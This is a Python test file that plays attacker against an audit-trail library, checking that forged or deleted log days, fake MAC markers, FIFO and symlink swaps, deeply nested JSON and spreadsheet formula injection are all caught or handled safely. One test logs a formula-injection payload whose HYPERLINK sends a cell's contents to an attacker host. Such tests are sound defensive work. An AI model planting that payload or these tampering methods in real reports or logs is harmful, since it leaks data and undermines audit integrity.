"""Attacks found by reviewing the README's promises against the code.

Each test plays someone who can write the trail's files (and, where it says
so, holds today's forward-secure writer key) but not the auditor's key, and
checks that what the README promises is what the verifier and writer do.
"""

from __future__ import annotations

import contextlib
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from fapilog_notebook import AuditEventType, AuditTrail, storage
from tests.test_attacks import DAYS, FORWARD_SECURE, day_file, forge_today, read_lines, write_trail


def _kinds(report: object) -> list[str]:
    findings = report.findings  # type: ignore[attr-defined]
    return [str(kind) for kind in findings["kind"]]


async def test_an_empty_file_planted_for_a_deleted_day_does_not_hide_the_day(
    tmp_path: Path,
) -> None:
    """With today's stolen key: delete yesterday's file and manifest, leave an
    empty file of that name, renumber and re-MAC today, rewrite the seal. The
    empty file carries nothing MACed with yesterday's key, so it cannot stand
    for the day's record."""
    trail = await write_trail(tmp_path, FORWARD_SECURE)
    day_file(trail, 2).unlink()
    storage.manifest_path(trail.directory, DAYS[2]).unlink()
    day_file(trail, 2).write_bytes(b"")
    before = json.loads(read_lines(day_file(trail, 1))[-1])
    forge_today(trail, before["sequence_number"], before["checksum"])

    report = trail.verify()

    assert not report.valid
    assert "manifest_mismatch" in _kinds(report)
    messages = " ".join(report.findings["message"])
    assert DAYS[2].isoformat() in messages


async def test_a_logged_value_never_becomes_a_formula_in_the_excel_report(tmp_path: Path) -> None:
    """Whoever can log an event chooses its strings; a cell of the workbook the
    auditor opens must show them as text, never evaluate them (formula injection)."""
    openpyxl = pytest.importorskip("openpyxl")
    from fapilog_notebook.compliance import compliance_report

    hostile = '=HYPERLINK("https://attacker.example/?"&A1,"open")'
    directory = tmp_path / "trail"
    moments = iter(datetime(2026, 3, 2, 3, 0, tzinfo=UTC) + timedelta(minutes=n) for n in range(9))
    async with AuditTrail(storage_path=directory, clock=lambda: next(moments)) as trail:
        await trail.log_event(AuditEventType.CONFIG_CHANGED, hostile, user_id=hostile)
        await trail.log_data_access("=1+1", "export", user_id="@SUM(1)")

    path = compliance_report(directory, frameworks=["pci-dss"]).to_excel(tmp_path / "r.xlsx")

    book = openpyxl.load_workbook(path)
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert formulas == []
    texts = {cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row}
    assert hostile in texts


def test_a_sequence_number_beyond_64_bits_is_reported_not_a_traceback(tmp_path: Path) -> None:
    """JSON integers have no bound: an event numbered 10**30 (its checksum
    recomputed, as anyone can without a key) must give findings that can be
    shown, in the frame, the text, JSON, HTML and from the command line."""
    from fapilog_notebook import verify_audit_log
    from fapilog_notebook.chain import encode_event as seal_line
    from fapilog_notebook.cli import main
    from tests.logbuilder import build_log

    directory = build_log([3]).write(tmp_path / "trail")
    path = next(directory.glob("audit_*.jsonl"))
    lines = path.read_bytes().splitlines()
    last = json.loads(lines[-1])
    last.pop("checksum")
    line, _ = seal_line(last, sequence_number=10**30, previous_hash=last["previous_hash"])
    path.write_bytes(b"".join(x + b"\n" for x in lines[:-1]) + line)

    report = verify_audit_log(directory)

    assert not report.valid
    gaps = report.findings[report.findings["kind"] == "sequence_gap"]
    assert list(gaps["sequence_number"]) == [10**30]
    assert report.segments["last_sequence"].tolist() == [10**30]
    assert str(10**30) in str(report)
    assert str(10**30) in report.to_json()
    assert str(10**30) in report.to_html()
    assert main(["verify", str(directory)]) == 1


async def test_an_edited_event_marked_as_maced_is_not_silently_valid(tmp_path: Path) -> None:
    """Unkeyed trail, no key: edit an event and add a ``mac`` object, keeping its
    checksum (so every link still holds). A MAC cannot be checked without a key,
    but the event must not pass as verified: a warning names it."""
    from fapilog_notebook import verify_audit_log
    from tests.test_attacks import UNKEYED, dump, edit, write_lines

    trail = await write_trail(tmp_path, UNKEYED)
    path = day_file(trail, 1)
    lines = read_lines(path)
    forged = edit(lines[2], message="forged", mac={"alg": "hmac-sha256"})
    lines[2] = dump(forged)
    write_lines(path, lines)

    report = verify_audit_log(trail.directory)

    unchecked = report.findings[report.findings["kind"] == "unchecked_mac"]
    assert len(unchecked) == 1
    row = unchecked.iloc[0]
    assert (row["severity"], Path(row["file"]).name, row["line"]) == ("warning", path.name, 3)
    assert row["sequence_number"] == forged["sequence_number"]


async def test_a_keyed_trail_verified_without_its_key_gets_no_unchecked_mac_warning(
    tmp_path: Path,
) -> None:
    """Every event keyed and no key given: the report says the MACs were not
    checked, and no event stands out."""
    from fapilog_notebook import verify_audit_log
    from tests.test_attacks import KEYED

    trail = await write_trail(tmp_path, KEYED)

    report = verify_audit_log(trail.directory)

    assert report.valid
    assert "unchecked_mac" not in _kinds(report)


@pytest.mark.parametrize("planted", ["fifo", "directory"])
async def test_a_fifo_or_directory_as_the_writer_key_file_is_a_clear_error(
    tmp_path: Path, planted: str
) -> None:
    """The forward-secure key file sits beside the trail, where whoever can write
    the files can put a FIFO in its place: reading it must not hang the writer."""
    import asyncio
    import os
    from datetime import date

    from fapilog_notebook.errors import AuditKeyError
    from fapilog_notebook.keys import keygen

    writer_key, _ = keygen(tmp_path / "w.key", tmp_path / "a.key", start=date(2026, 1, 1))
    writer_key.unlink()
    if planted == "fifo":
        os.mkfifo(writer_key)
    else:
        writer_key.mkdir()
    trail = AuditTrail(storage_path=tmp_path / "trail", key_file=writer_key)
    try:
        with pytest.raises(
            AuditKeyError, match=rf"w\.key.*{'FIFO' if planted == 'fifo' else 'a directory'}"
        ):
            await asyncio.wait_for(trail.log_event(AuditEventType.DATA_ACCESS, "x"), 20)
    finally:
        if planted == "fifo":
            # Release a reader stuck on the FIFO (a regression) so the test ends.
            with contextlib.suppress(OSError):
                os.close(os.open(writer_key, os.O_WRONLY | os.O_NONBLOCK))
        await trail.stop()


@pytest.mark.filterwarnings("ignore::fapilog_notebook.AuditWriteWarning")
@pytest.mark.parametrize("planted", ["link", "fifo"])
async def test_a_newest_file_swapped_after_the_listing_is_never_written_through(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, planted: str
) -> None:
    """The writer lists the audit files, then opens the newest to read the head
    (and may terminate a torn last line). A link or FIFO swapped in between
    must be refused by the open itself: never written through, never a hang."""
    import asyncio
    import os

    directory = tmp_path / "trail"
    async with AuditTrail(storage_path=directory) as trail:
        await trail.log_event(AuditEventType.DATA_ACCESS, "before")
    newest = sorted(directory.glob("audit_*.jsonl"))[-1]
    target = tmp_path / "precious.txt"
    target.write_bytes(b"not the writer's to touch")  # no newline: a 'torn' tail
    real = storage.list_audit_files

    def list_then_swap(*args: Any, **kwargs: Any) -> Any:
        found = real(*args, **kwargs)
        if newest.is_file() and not newest.is_symlink():
            newest.unlink()
            if planted == "link":
                newest.symlink_to(target)
            else:
                os.mkfifo(newest)
        return found

    monkeypatch.setattr(storage, "list_audit_files", list_then_swap)
    writer = AuditTrail(storage_path=directory, on_write_error="raise")
    try:
        with pytest.raises(Exception, match="not a regular file"):
            await asyncio.wait_for(writer.start(), 20)
    finally:
        if planted == "fifo":
            with contextlib.suppress(OSError):  # release a reader stuck on it (a regression)
                os.close(os.open(newest, os.O_WRONLY | os.O_NONBLOCK))
        with contextlib.suppress(Exception):
            await writer.stop()
    assert target.read_bytes() == b"not the writer's to touch"


def test_a_line_nested_very_deep_does_not_crash_the_loader(tmp_path: Path) -> None:
    """pyarrow's JSON reader overflows its stack (the process dies) on a line
    nested tens of thousands deep. read_audit_log must leave such a line out
    with its warning, in a process that lives on (run apart, so a crash shows
    as a failure rather than ending the test run)."""
    import subprocess
    import sys

    pytest.importorskip("pyarrow")
    from tests.logbuilder import build_log

    directory = build_log([4]).write(tmp_path / "trail")
    path = next(directory.glob("audit_*.jsonl"))
    lines = path.read_bytes().splitlines(keepends=True)
    depth = 200_000
    lines.insert(2, b'{"a":' + b"[" * depth + b"]" * depth + b"}\n")
    path.write_bytes(b"".join(lines))
    script = (
        "import sys, warnings\n"
        "from fapilog_notebook import read_audit_log\n"
        "with warnings.catch_warnings(record=True) as caught:\n"
        "    warnings.simplefilter('always')\n"
        f"    frame = read_audit_log({str(directory)!r}, progress=False)\n"
        "print(len(frame), any('left out' in str(w.message) for w in caught))\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        cwd=Path(__file__).resolve().parent.parent,
        timeout=300,
    )
    assert done.returncode == 0, done.stderr[-2000:]
    assert done.stdout.split() == ["4", "True"]


async def test_compliance_analyses_take_objects_where_names_belong(tmp_path: Path) -> None:
    """An unkeyed trail's events can be rewritten with their checksums recomputed
    (the trail still verifies): a JSON object or list as ``user_id`` or
    ``client_ip`` must be grouped as a value, not end the report in a
    ``TypeError: unhashable type``."""
    import warnings

    import pandas as pd

    from fapilog_notebook import compliance as c
    from fapilog_notebook import read_audit_log
    from fapilog_notebook.chain import encode_line as seal_record

    directory = tmp_path / "trail"
    moments = iter(datetime(2026, 3, 2, 3, 0, tzinfo=UTC) + timedelta(minutes=n) for n in range(20))
    async with AuditTrail(storage_path=directory, clock=lambda: next(moments)) as trail:
        for _ in range(6):
            await trail.log_security_event(
                AuditEventType.AUTHENTICATION_FAILED, "bad", user_id="x", client_ip="10.0.0.1"
            )
        for n in range(3):
            await trail.log_data_access(f"/p/{n}", "export", user_id="x", contains_phi=True)
    path = next(directory.glob("audit_*.jsonl"))
    previous, lines = None, []
    for number, raw in enumerate(path.read_bytes().splitlines()):
        event = json.loads(raw)
        event.pop("checksum")
        event["previous_hash"] = previous
        event["user_id"] = {"name": ["x"]} if number % 2 else ["x"]
        event["client_ip"] = {"ip": 1}
        event["hostname"] = [1]
        line, previous = seal_record(event)
        lines.append(line)
    path.write_bytes(b"".join(lines))
    for record in directory.glob(".fapilog-notebook.*"):
        if "lock" not in record.name:
            record.unlink()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        frame = read_audit_log(directory)
    roster = pd.DataFrame({"user_id": ['["x"]'], "terminated_at": ["2026-03-01"]})

    assert len(c.failed_logins(frame, threshold=2)) == 2  # one cluster per distinct user value
    assert len(c.bulk_access(frame, threshold=1)) >= 1
    assert len(c.first_seen(frame, baseline="1min")) >= 0
    assert c.completeness(frame)["missing"].sum() >= 0
    assert len(c.pseudonymize(frame, key=b"k" * 32)) == len(frame)
    assert len(c.after_termination(frame, roster)) == 0  # a list is not the name '["x"]'
    report = c.compliance_report(directory, roster=roster, resources=["/p/1"])
    assert '"verdict": "EXCEPTIONS"' in report.to_json()
    report.to_html(tmp_path / "r.html")


async def test_a_future_day_file_found_at_start_leaves_the_days_it_skips_recorded(
    tmp_path: Path,
) -> None:
    """An empty file named for a later day (planted, or left by a clock that ran
    ahead) moves a restarted forward-secure writer to that day. Every day its key
    skips must still be recorded with its own key: the untouched trail stays
    valid (only the events' days are reported as misplaced)."""
    from datetime import date

    from fapilog_notebook import verify_audit_log
    from fapilog_notebook.keys import VerificationKey, keygen

    writer_key, auditor_key = keygen(
        tmp_path / "w.key", tmp_path / "a.key", start=date(2026, 3, 29)
    )
    directory = tmp_path / "trail"
    moments = iter(datetime(2026, 3, 29, 1, tzinfo=UTC) + timedelta(hours=4 * n) for n in range(20))
    async with AuditTrail(
        storage_path=directory, clock=lambda: next(moments), key_file=writer_key
    ) as trail:
        for n in range(6):
            await trail.log_event(AuditEventType.DATA_ACCESS, f"e{n}")
    storage.file_for_day(directory, date(2026, 4, 10)).write_bytes(b"")
    async with AuditTrail(
        storage_path=directory, clock=lambda: next(moments), key_file=writer_key
    ) as trail:
        for n in range(6):
            await trail.log_event(AuditEventType.DATA_ACCESS, f"later {n}")

    report = verify_audit_log(directory, key=VerificationKey.load(auditor_key))

    assert report.valid, report.format_text()
    assert set(_kinds(report)) == {"misplaced_event"}


async def test_crlf_line_ends_are_line_ends_as_the_readme_says(tmp_path: Path) -> None:
    """A file whose line ends were converted to CRLF verifies as before, keyed
    too: the ``\\r`` is read as part of the line end, not of the line."""
    from tests.test_attacks import KEYED, write_lines

    trail = await write_trail(tmp_path, KEYED)
    path = day_file(trail, 1)
    write_lines(path, [line + b"\r" for line in read_lines(path)])

    report = trail.verify()

    assert report.valid
    assert report.finding_list == ()
    assert report.macs_checked == report.events_checked


def test_retention_of_files_named_for_years_far_apart_stays_small(tmp_path: Path) -> None:
    """Two empty files named for the years 1 and 9999 (planted, or a clock gone
    wrong) span 3.65 million days: the missing days are counted exactly, and
    the report lists a bounded number of them instead of every one (which took
    minutes and a 150 MB JSON)."""
    from datetime import date

    from fapilog_notebook.compliance import compliance_report, retention
    from fapilog_notebook.compliance._analyses import RETENTION_DAYS_LISTED
    from tests.logbuilder import build_log

    directory = build_log([2, 2]).write(tmp_path / "trail")
    for day in (date(1, 1, 1), date(9999, 12, 31)):
        storage.file_for_day(directory, day).write_bytes(b"")
    present = len(list(directory.glob("audit_*.jsonl")))

    rows = retention(directory, now="2026-04-01").set_index("rule")

    missing = rows.loc["missing_days"]
    assert missing["count"] == (date(9999, 12, 31) - date(1, 1, 1)).days + 1 - present
    assert len(missing["days"]) == RETENTION_DAYS_LISTED
    assert missing["first"].date() == date(1, 1, 2)
    assert missing["last"].date() == date(9999, 12, 30)
    assert f"the first {RETENTION_DAYS_LISTED} are listed" in missing["detail"]
    assert len(compliance_report(directory, as_of="2026-04-01").to_json()) < 2_000_000


async def test_a_deleted_day_shows_when_only_some_files_or_days_are_verified(
    tmp_path: Path,
) -> None:
    """With today's stolen key: yesterday's file and manifest deleted, today's
    events renumbered and re-MACed, today's manifest and the seal rewritten.
    The version-2 verification key requires yesterday's record whether the
    auditor verifies the directory, today's file alone, a list of files or a
    range starting today; the untouched trail is valid each way."""
    import shutil

    from fapilog_notebook import verify_audit_log

    trail = await write_trail(tmp_path, FORWARD_SECURE)
    pristine = tmp_path / "pristine"
    shutil.copytree(trail.directory, pristine)

    def ways(directory: Path) -> list[Any]:
        """Today's file; the two newest files there are; a range from today; all."""
        today = storage.file_for_day(directory, DAYS[3])
        before = sorted(directory.glob("audit_*.jsonl"))[-2]
        return [
            verify_audit_log(today, key=trail.verify_key),
            verify_audit_log([before, today], key=trail.verify_key),
            verify_audit_log(directory, key=trail.verify_key, since=DAYS[3]),
            verify_audit_log(directory, key=trail.verify_key),
        ]

    for report in ways(pristine):
        assert report.valid, report.format_text()

    day_file(trail, 2).unlink()
    storage.manifest_path(trail.directory, DAYS[2]).unlink()
    before = json.loads(read_lines(day_file(trail, 1))[-1])
    forge_today(trail, before["sequence_number"], before["checksum"])

    for report in ways(trail.directory):
        assert not report.valid
        missing = report.findings[report.findings["kind"] == "manifest_mismatch"]
        assert any(DAYS[2].isoformat() in message for message in missing["message"])


def test_a_fifo_named_as_an_audit_file_does_not_hang_the_loader(tmp_path: Path) -> None:
    """A FIFO among the files given to read_audit_log (a glob of a directory
    someone can write to) is left out with a warning, as the verifier reports
    it as unreadable: never a reader blocked for good."""
    import os
    import warnings
    from concurrent.futures import ThreadPoolExecutor

    from fapilog_notebook import read_audit_log
    from tests.logbuilder import build_log

    pytest.importorskip("pyarrow")
    directory = build_log([3]).write(tmp_path / "trail")
    fifo = directory / "audit_2026-05-01.jsonl"
    os.mkfifo(fifo)
    files = sorted(directory.glob("audit_*.jsonl"))
    pool = ThreadPoolExecutor(max_workers=1)
    try:
        with warnings.catch_warnings(record=True) as caught:
            warnings.simplefilter("always")
            frame = pool.submit(read_audit_log, files, progress=False).result(timeout=30)
    finally:
        with contextlib.suppress(OSError):  # release a reader stuck on it (a regression)
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        pool.shutdown(wait=True)
    assert len(frame) == 3
    assert any(fifo.name in str(w.message) for w in caught)
